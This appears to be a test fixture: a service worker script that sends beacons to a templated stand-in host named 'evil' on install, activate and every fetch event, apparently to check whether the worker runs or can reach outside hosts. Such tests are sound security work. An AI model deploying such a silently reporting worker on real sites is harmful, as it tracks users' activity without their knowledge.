const evil = "{{evil}}";
const send = (name) => fetch(`${evil}/got/${name}`, {mode: "no-cors"}).catch(() => 0);
addEventListener("install", (e) => { e.waitUntil(send("service-worker").then(() => skipWaiting())); });
addEventListener("activate", (e) => { e.waitUntil(clients.claim().then(() => send("service-worker-later"))); });
addEventListener("fetch", () => { send("service-worker-fetch"); });
